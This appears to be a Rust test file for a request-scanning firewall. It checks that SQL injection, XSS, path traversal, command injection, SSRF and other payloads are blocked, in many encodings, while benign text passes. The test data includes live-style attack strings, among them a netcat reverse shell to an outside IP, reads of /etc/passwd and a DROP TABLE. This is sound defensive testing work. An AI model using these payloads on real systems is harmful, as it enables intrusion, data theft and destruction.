//! What is blocked and what passes, in every encoding and in every kind of body.

use super::*;
use crate::{Action, locate::Head};
use proptest::prelude::*;

fn verdict(value: &[u8]) -> Verdict {
    scan_value(value, &Location { place: Place::Query, field: "q".into() }, &Policy::default())
}

fn blocks(value: &[u8]) -> bool {
    verdict(value).action == Action::Block
}

fn check(class: &str, values: &[&str]) {
    for value in values {
        let verdict = verdict(value.as_bytes());
        let found = verdict.findings.iter().any(|f| f.class.name() == class);
        assert!(verdict.action == Action::Block && found, "{value:?} is no {class}: {verdict:?}");
    }
}

fn passes(values: &[&str]) {
    for value in values {
        let verdict = verdict(value.as_bytes());
        assert!(verdict.action == Action::Pass, "{value:?}: {verdict:?}");
    }
}

#[test]
fn sql() {
    check(
        "sqli",
        &[
            "' OR 1=1 --",
            " AND 1=1",
            " HAVING 1=1",
            " ORDER BY 1#",
            "select @@version",
            "admin\" #",
            "x' or 'a'='a",
            "5 union all select null,null,name from accounts",
            "1;drop table accounts",
            "7 and sleep(9)",
            "1' and (select 1 from t limit 1)>0 -- x",
            "2 or/**/2/**/like/**/2",
            "x'||(select secret from t)||'",
            "1 waitfor delay '0:0:9'",
            "'; exec xp_cmdshell 'x' --",
            "if(9=9,sleep(3),0)",
            "x' group by a having 1=1 -- ",
        ],
    );
    passes(&[
        "select a colour",
        "O'Brien",
        "Grant",
        "the union selected a new leader",
        "drop the table off at noon",
        "order by phone or online",
        "rock 'n' roll and blues",
        "size 10 or 12",
        "where is it?",
        "\"red\" and \"blue\"",
        "it's 5 o'clock -- time to go",
        "a = b",
        "He said: 'yes' or 'no'?",
        "case of beer",
        "insert coin",
        "50% off & more",
        "update your profile",
        "Who is like you?",
        "x in (1, 2)",
        "between 5 and 6 pm",
        "„Guten Tag“ sagte er",
    ]);
}

#[test]
fn scripts() {
    check(
        "xss",
        &[
            "<script>f()</script>",
            "<img src=x onerror=f()>",
            "\" onmouseover=f() x=\"",
            "<svg/onload=f()>",
            "<a href=\"java\tscript:f()\">x</a>",
            "javascript:f()",
            "parent['\\x65val']('x')",
            "';alert(1)//",
            "<iframe srcdoc='x'>",
            "<b style=\"x:expr/**/ession(f())\">",
            "top[/ev/.source+/al/.source](1)",
            "<body onload\n=\nf()>",
            "<object data=x>",
            "&#60;script&#62;f()&#60;/script&#62;",
            "+ADw-script+AD4-f()",
        ],
    );
    passes(&[
        "<b>bold</b> and <i>italic</i>",
        "<a href=\"/path\">link</a>",
        "1 < 2 and 3 > 2",
        "I <3 you",
        "x <- y",
        "<p class=\"x\">text</p>",
        "JavaScript: The Good Parts",
        "the document on top of the window",
        "alert the press (today)",
        "<john@example.com>",
        "if (a < b) c();",
        "onclick is an attribute",
    ]);
}

#[test]
fn paths_and_commands() {
    check(
        "traversal",
        &[
            "../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "/etc/passwd",
            "....//....//....//x",
            "/../x",
            "..;/..;/x",
            "php://filter/read=convert.base64-encode/resource=x",
            "/proc/self/environ",
            "%2e%2e%2f%2e%2e%2f%2e%2e%2fx",
        ],
    );
    check(
        "command",
        &[
            ";id",
            "|id",
            "& net view",
            "x; cat /etc/passwd",
            "`uname -a`",
            "$(whoami)",
            "a && ping -c 3 127.0.0.1",
            "| w'h'oami",
            ";c\\at /etc/passwd",
            "() { :;}; echo x",
            "x|nc -e /bin/sh 1.2.3.4 99",
            ";cat${IFS}/etc/passwd",
        ],
    );
    passes(&[
        "../images/logo.png",
        "wait... what",
        "a/b/c.txt",
        "see ../README.md",
        "1..10",
        "who is it?",
        "time to find out",
        "salt & pepper",
        "cats; dogs",
        "yes | no",
        "a; more of it",
        "find me & my cat",
        "use `ls` to list",
        "id",
        "date",
        "echo and narcissus",
        "he laughed; who would not?",
    ]);
}

#[test]
fn the_rest() {
    check("template", &["{{7*7}}", "${7*7}", "#{3*3}", "<%= 7*7 %>", "{{config.items()}}"]);
    check("lookup", &["${jndi:ldap://x/a}", "${${lower:j}ndi:x}", "${::-j}"]);
    check("nosql", &["[$ne]", "$ne", "{\"$gt\": \"\"}", "x[$regex]"]);
    check("ldap", &["*)(uid=*))(|(uid=*", "x)(&)"]);
    check("xxe", &["<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]>"]);
    check("crlf", &["x\r\nSet-Cookie: a=b", "x%0d%0aLocation: http://x"]);
    check(
        "ssrf",
        &["http://169.254.169.254/latest/meta-data/", "http://0x7f000001/", "gopher://127.0.0.1:25/x"],
    );
    check(
        "code",
        &[
            "<?php f();",
            "x;system('x');",
            "O:4:\"User\":1:{}",
            "__proto__",
            "java.lang.Runtime",
            "require('child_process')",
        ],
    );
    check("mail", &["a@b.c\nBcc: d@e.f"]);
    passes(&[
        "{{name}}",
        "Dear ${first_name}",
        "costs $5",
        "http://example.com/a?b=c",
        "C:\\Users\\me",
        "{\"a\": [1, 2]}",
        "(a)(b)",
        "<?xml version=\"1.0\"?>",
        "Subject to change",
        "eval() is evil",
        "the class loader",
        "SGVsbG8gd29ybGQh",
        "# Heading\n\nSome *text* with `code`.",
        "a system (of sorts)",
        "プログラム",
        "naïve café – “quoted”",
    ]);
}

#[test]
fn findings_explain_themselves_and_are_excluded_one_by_one() {
    let at = Location { place: Place::Query, field: "q".into() };
    let verdict = scan_value(b"%27%20OR%201=1--", &at, &Policy::default());
    let first = verdict.findings.iter().find(|finding| finding.rule == "condition").unwrap();
    assert_eq!((first.class.name(), first.chain.as_slice()), ("sqli", &[Step::Percent][..]));
    assert_eq!(first.evidence, "OR 1=1");
    let exclusions = verdict.findings.iter().map(|f| Exclusion::narrowest(f, "", "")).collect();
    let policy = Policy { exclusions, ..Policy::default() };
    assert_eq!(scan_value(b"%27%20OR%201=1--", &at, &policy).action, Action::Pass);
    assert_eq!(scan_value(b"<script>x</script>", &at, &policy).action, Action::Block);
}

#[test]
fn levels_only_add() {
    for value in ["' or 1", "x; sleep 5", "<style>", "../../x", "http://10.0.0.1/"] {
        let at = Location { place: Place::Query, field: "q".into() };
        let action = |level| {
            scan_value(
                value.as_bytes(),
                &at,
                &Policy { level: Level::new(level).unwrap(), ..Policy::default() },
            )
            .action
        };
        let actions: Vec<bool> = (1..=4).map(|level| action(level) == Action::Block).collect();
        assert!(actions.is_sorted(), "{value}: {actions:?}");
    }
}

/// Attacks that every encoding must not hide.
const ATTACKS: [&str; 6] = [
    "' or 5=5 -- ",
    "9 union select 1,2,3 from t",
    "<script>f(1)</script>",
    "<img src=x onerror=f(1)>",
    "../../../../etc/passwd",
    "../../../../../x",
];

/// One way to write a byte.
fn written(byte: u8, way: u8) -> String {
    match way {
        0 => format!("%{byte:02x}"),
        1 => format!("%{byte:02X}"),
        2 => format!("%u00{byte:02x}"),
        3 => format!("%25{byte:02x}"),
        4 => format!("%2525{byte:02x}"),
        5 => format!("&#{byte};"),
        6 => format!("&#x{byte:x};"),
        7 => format!("\\x{byte:02x}"),
        8 => format!("\\u00{byte:02x}"),
        9 => format!("%{:02x}%{:02x}", 0xc0 | (byte >> 6), 0x80 | (byte & 0x3f)),
        10 => format!("%e0%{:02x}%{:02x}", 0x80 | (byte >> 6), 0x80 | (byte & 0x3f)),
        11 => format!("%f0%80%{:02x}%{:02x}", 0x80 | (byte >> 6), 0x80 | (byte & 0x3f)),
        12 => format!("%uff{:02x}", byte.wrapping_sub(0x20)),
        _ => char::from(byte).to_string(),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(160))]

    #[test]
    fn whole_values_in_one_encoding(attack in prop::sample::select(ATTACKS.to_vec()), way in 0u8..12) {
        let value: String = attack.bytes().map(|byte| written(byte, way)).collect();
        prop_assert!(blocks(value.as_bytes()), "{value}");
    }

    #[test]
    fn marks_and_letters_in_two_mixed_encodings(
        attack in prop::sample::select(ATTACKS.to_vec()),
        ways in prop::sample::select(vec![(0u8, 3u8), (1, 2), (3, 4), (9, 0), (10, 11), (2, 9), (5, 6), (7, 8), (0, 13), (9, 13)]),
        choice in prop::collection::vec(any::<bool>(), 40),
    ) {
        let pick = |i: usize| if choice[i % 40] { ways.0 } else { ways.1 };
        let value: String = attack.bytes().enumerate().map(|(i, byte)| written(byte, pick(i))).collect();
        prop_assert!(blocks(value.as_bytes()), "{value}");
    }

    #[test]
    fn steps_up_behind_any_separator(
        separator in prop::sample::select(vec![
            "/", "\\", "%2f", "%5c", "%252f", "%u2215", "%u2216", "%uff0f", "0x2f", "0x5c", "%c0%af", "%c1%9c", "%e0%80%af",
            "%f0%80%80%af", "%f8%80%80%80%af", "%c0%qf", "%c0%2f", "%%32%66", "//", "/./", "%01/", "/%00",
        ]),
        dots in prop::sample::select(vec!["..", "%2e%2e", "%252e%252e", "%c0%ae%c0%ae", "%u002e%u002e", "0x2e0x2e", ".%2e"]),
        count in 4usize..9,
    ) {
        let value = format!("{}etc{separator}passwd", format!("{dots}{separator}").repeat(count));
        prop_assert!(blocks(value.as_bytes()), "{value}");
    }

    #[test]
    fn sql_with_any_space_case_and_comment(
        space in prop::sample::select(vec![" ", "\t", "\n", "\x0b", "\x0c", "\u{a0}", "/**/", "/*x*/", "/*!*/", "%0a", "+", "  ", "--x\n", "#x\n"]),
        upper in prop::collection::vec(any::<bool>(), 40),
    ) {
        let case = |text: &str| -> String {
            text.chars().enumerate().map(|(i, c)| if upper[i % 40] { c.to_ascii_uppercase() } else { c }).collect()
        };
        for words in [&["-1", "union", "select", "1,2,3", "from", "t"][..], &["1", "and", "7=7"], &["x'", "or", "'a'='a"]] {
            let value = case(&words.join(space));
            prop_assert!(blocks(value.as_bytes()), "{value:?}");
        }
    }

    #[test]
    fn keywords_that_comments_split(at in 1usize..5, comment in "[a-z]{0,6}") {
        let (left, right) = "union".split_at(at);
        let value = format!("-1 {left}/*{comment}*/{right} select 1,2");
        prop_assert!(blocks(value.as_bytes()), "{value}");
    }

    #[test]
    fn full_width_and_base64(attack in prop::sample::select(ATTACKS.to_vec())) {
        let wide: String = attack.chars().map(|c| match c {
            '!'..='~' => char::from_u32(u32::from(c) + 0xfee0).unwrap(),
            c => c,
        }).collect();
        prop_assert!(blocks(wide.as_bytes()), "{wide}");
        prop_assert!(blocks(coded(attack.as_bytes()).as_bytes()));
        let json = serde_json::json!({ "a": { "b": coded(attack.as_bytes()) } }).to_string();
        prop_assert!(blocks(json.as_bytes()), "{json}");
    }

    #[test]
    fn nested_json(attack in prop::sample::select(ATTACKS.to_vec()), depth in 1usize..4) {
        let mut value = serde_json::json!({ "a": attack }).to_string();
        for _ in 1..depth {
            value = serde_json::json!({ "b": value }).to_string();
        }
        prop_assert!(blocks(value.as_bytes()), "{value}");
    }

    #[test]
    fn any_bytes_anywhere_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..600), place in 0usize..5) {
        let place = [Place::Path, Place::Query, Place::Body, Place::Header, Place::Cookie][place];
        scan_value(&bytes, &Location { place, field: String::new() }, &Policy::default());
        scan_raw(&bytes, &Policy::default());
    }

    #[test]
    fn any_mix_of_tokens_never_panics(parts in prop::collection::vec(prop::sample::select(vec![
        "'", "\"", "`", "select", "union", " ", "(", ")", ",", "1", "=", "or", "case", "when", "/*", "*/", "--", "#", "<", ">", "on",
        "load=", "style=", "{", "}", "${", "..", "/", "\\", ";", "|", "&", "id", "\n", "@@", "0x2f", "%", "&#", "!", "[", "]", "é", "\0",
        "document.", "alert", "script", "<!", "doctype", ":", "$", "://", "127.1", "char(", "like", "0", ".",
    ]), 0..120)) {
        verdict(parts.concat().as_bytes());
    }
}

fn coded(bytes: &[u8]) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let bits =
            chunk.iter().fold(0u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for at in 0..4 {
            let sextet = ALPHABET[(bits >> (18 - 6 * at)) as usize & 63];
            out.push(if at <= chunk.len() { char::from(sextet) } else { '=' });
        }
    }
    out
}

fn request(content_type: &str, body: &[u8]) -> Action {
    let headers = [(&b"content-type"[..], content_type.as_bytes())];
    scan_request(&Head { method: b"POST", target: b"/", headers: &headers }, body, &Policy::default()).action
}

#[test]
fn padding_hides_nothing_in_any_kind_of_body() {
    for size in [1000, 8 << 10, 128 << 10, 300 << 10] {
        let pad = "lorem ipsum ".repeat(size / 12);
        let attack = "x' union select name from users -- ";
        let bodies = [
            ("application/x-www-form-urlencoded", format!("p={pad}&a={attack}")),
            ("application/x-www-form-urlencoded", format!("a={pad}{attack}")),
            ("application/json", serde_json::json!({ "p": pad, "a": attack }).to_string()),
            ("application/json", serde_json::json!({ "a": format!("{pad}{attack}") }).to_string()),
            ("text/xml", format!("<a><p>{pad}</p><b>{attack}</b></a>")),
            ("text/plain", format!("{pad}{attack}")),
            ("application/x-ndjson", format!("{{\"p\":\"{pad}\"}}\n{{\"a\":\"{attack}\"}}\n")),
            ("application/graphql", format!("{{ a(p: \"{pad}\") }} {attack}")),
            (
                "multipart/form-data; boundary=b",
                format!(
                    "--b\r\nContent-Disposition: form-data; name=\"p\"\r\n\r\n{pad}\r\n--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{attack}\r\n--b--\r\n"
                ),
            ),
        ];
        for (content_type, body) in bodies {
            assert_eq!(
                request(content_type, body.as_bytes()),
                Action::Block,
                "{size} bytes of padding in {content_type}"
            );
        }
        assert_eq!(
            request("application/json", serde_json::json!({ "p": pad }).to_string().as_bytes()),
            Action::Pass
        );
    }
}

/// A quadratic scan would take hours for these.
#[test]
fn a_megabyte_of_anything_comes_to_an_end() {
    let parts = [
        "(", "'", "\"", "or 1=", "(select ", "<", "<a ", "onerror", "../", "{{", "${", ";id", "`", "%25",
        "&#x", "\\u00", "/*", "--", "[", "a=",
    ];
    for part in parts {
        let value = part.repeat((1 << 20) / part.len());
        verdict(value.as_bytes());
    }
}
